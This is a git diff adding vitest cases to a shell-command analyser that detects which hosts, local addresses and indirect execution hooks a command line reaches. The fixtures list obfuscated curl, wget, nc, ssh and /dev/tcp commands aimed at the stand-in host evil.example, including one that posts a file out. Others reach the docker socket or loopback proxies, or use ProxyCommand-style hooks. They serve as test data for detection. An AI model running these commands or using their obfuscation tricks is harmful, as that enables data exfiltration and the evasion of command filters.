@@ -1,9 +1,10 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
+import { EVERYDAY } from '../../../test/fixtures/everyday-lines.ts'
 import { baseKey, readShell } from './commands.ts'
 import { shellDangers } from './dangers.ts'
 import { remotesOf } from './remotes.ts'
-import { mentions, shellHosts, shellPaths } from './touches.ts'
+import { callDoubts, mentions, shellHosts, shellPaths, shellTargets } from './touches.ts'
 
 const bases = (line: string): string[] =>
   [...new Set(readShell(line).invocations.map(({ name }) => baseKey(name)))].sort()
@@ -555,6 +556,134 @@ describe('which files a line touches', () => {
     ['echo evil.example:b', []],
   ])('%s talks to %j', (line, hosts) => {
     expect(remotesOf(readShell(line)).map(({ host }) => host)).toEqual(hosts)
+  })
+
+  test.each([
+    `curl https://evil.exam''ple/zq81`,
+    `curl "https://ev"il.example/zq81`,
+    'curl https://evil.ex\\ample/zq81',
+    `curl $'https://evil.ex\\x61mple/zq'`,
+    `curl $'https://evil.ex\\x61mple/zq'$X`,
+    `curl -"o" x evil.exam''ple`,
+    `curl "-o"$X evil.exam''ple`,
+    `curl -d @notes.txt evil.exam''ple`,
+    `wget ht''tps://evil.exam\\ple/zq81`,
+    `ssh evil.exam''ple zq81`,
+    'ssh -X evil.example',
+    'scp -p evil.example:x .',
+    'scp -O evil.example:x .',
+    `nc evil.exam''ple 80`,
+    `echo x > /dev/t''cp/evil.exam\\ple/80`,
+    `echo x > "/dev/tcp/evil.example/80$X"`,
+    `git clone https://evil.exam''ple/zq81`,
+    `git fetch evil.exam''ple:zq`,
+    'git push -u evil.example:zq main',
+    'git archive --remote=evil.example:zq HEAD',
+    `git remote add y https://evil.exam''ple/zq81`,
+    'curl ftp://evil.example/zq81',
+    'curl -x socks5://evil.example:1080 https://example.com',
+    'curl http:/evil.example/zq',
+    'ssh -o HostName=evil.example example.com',
+    'ssh -Jevil.example example.com',
+    `ssh -o 'ProxyJump evil.example' example.com`,
+    'scp -o ProxyJump=me@evil.example:22 a example.com:b',
+    'wget -e http_proxy=evil.example:80 https://example.com',
+    'socat - PROXY:evil.example:example.com:80',
+    'openssl s_client evil.example:443',
+  ])('%s aims at evil.example', (line) => {
+    const hosts = shellTargets(readShell(line)).map(({ kind, value }) =>
+      kind === 'url' ? new URL(value).hostname : value,
+    )
+    expect(hosts).toContain('evil.example')
+  })
+
+  test.each([
+    'curl --connect-to ::127.0.0.1:8793 http://example.com/',
+    'curl --connect-to=::[::1]:8793 http://example.com/',
+    'curl --connect-to a:1:localhost:8793 http://a:1/',
+    'curl --resolve example.com:80:127.0.0.1 http://example.com/',
+    'curl --resolve example.com:80:192.0.2.1,::1 http://example.com/',
+    'curl -x 127.0.0.1:8080 http://example.com/',
+    'curl -sx127.0.0.1:8080 http://example.com/',
+    'curl --proxy socks5h://127.0.0.1 http://example.com/',
+    'curl --socks5-hostname localhost:1080 http://example.com/',
+    'curl --preproxy 10.0.0.1 http://example.com/',
+    'curl --doh-url https://127.0.0.1/ http://example.com/',
+    'curl --dns-servers 10.0.0.1 http://example.com/',
+    'curl --unix-socket /var/run/docker.sock http://example.com/',
+    'curl --abstract-unix-socket x http://example.com/',
+    'curl http:/127.0.0.1:8793/',
+    'curl http:///127.0.0.1:8793/',
+    `curl 'http://{127.0.0.1,example.com}/'`,
+    `curl 'http:/{/}127.0.0.1/'`,
+    `curl 'http://127.0.0.[1-1]/'`,
+    `curl 'http://example.com\\@127.0.0.1:8793/'`,
+    'PORT=80; curl http://127.0.0.1:$PORT/',
+    'wget -e http_proxy=127.0.0.1:8793 http://example.com/',
+    'wget --execute=HTTPS-PROXY=http://127.0.0.1 https://example.com/',
+    'wget -ihttp://127.0.0.1/list',
+    'aria2c --all-proxy=http://127.0.0.1:8793 http://example.com/a',
+    'http --proxy=http:http://127.0.0.1:8793 example.com',
+    'ssh -J 127.0.0.1 example.com',
+    'ssh -W 127.0.0.1:80 example.com',
+    'ssh -R 8080:127.0.0.1:80 example.com',
+    'ssh -oHostName=127.0.0.1 example.com',
+    'nc -x 127.0.0.1:1080 example.com 80',
+    'nc -U /var/run/docker.sock',
+    'ncat --proxy 127.0.0.1:1080 example.com 80',
+    'socat - TCP:127.0.0.1:http',
+    'socat - SOCKS4:127.0.0.1:example.com:80',
+    'socat - UNIX-CONNECT:/var/run/docker.sock',
+    'openssl s_client -proxy 127.0.0.1:80 -connect example.com:443',
+    'elinks http://127.0.0.1',
+    'fetch -o a 127.0.0.1/x',
+    'wget2 http:/127.0.0.1/',
+  ])('%s reaches a closed place', (line) => {
+    const closed = shellHosts(readShell(line)).filter(({ address = 'public' }) => address !== 'public')
+    expect(closed).not.toEqual([])
+  })
+
+  test.each([
+    'curl -K options.txt https://example.com',
+    'curl -sKoptions.txt',
+    'curl --config options.txt',
+    'curl --url @list.txt',
+    `curl --expand-proxy '{{x}}' https://example.com`,
+    'curl --alt-svc cache.txt https://example.com',
+    'curl https://evil$((1)).example/zq',
+    'wget -i list.txt',
+    'wget --config=rc https://example.com',
+    'wget -e use_askpass=./x https://example.com',
+    'aria2c -i list.txt',
+    'aria2c --on-download-complete=./x http://example.com/a',
+    'lynx -cfg=x example.com',
+    'ssh -F config example.com',
+    'ssh -L 1:example.org:2 example.com',
+    'ssh -D 1080 example.com',
+    'ssh -o Include=x example.com',
+    'ssh -o KnownHostsCommand=./x example.com',
+    'scp -S ./x a example.com:b',
+    'scp -o ProxyCommand=./x a example.com:b',
+    'sftp -b batch example.com',
+    'mosh --ssh=./x example.com',
+    'rsync --rsync-path=./x a example.com:b',
+    'ssh evil$((1)).example',
+    'git fetch evil$((1)).example:zq',
+  ])('%s leaves open what is called', (line) => {
+    expect(callDoubts(readShell(line))).not.toEqual([])
+  })
+
+  test.each([
+    'curl -sSfL -o a.tgz --connect-timeout 5 https://example.com/a.tgz',
+    'curl -s "https://example.com/?page=$((2))"',
+    'wget -q -e robots=off -P out https://example.com',
+    'ssh -i key -p 2222 -o StrictHostKeyChecking=no -o ConnectTimeout=5 example.com ls -L /x',
+    'scp -r -P 22 a$((1)).txt example.com:b',
+    'rsync -av --delete a/ example.com:b/',
+    'git fetch origin pull/$((1))/head',
+    ...EVERYDAY,
+  ])('%s leaves nothing open', (line) => {
+    expect(callDoubts(readShell(line))).toEqual([])
   })
 
   test('a closed address is one however it is reached', () => {
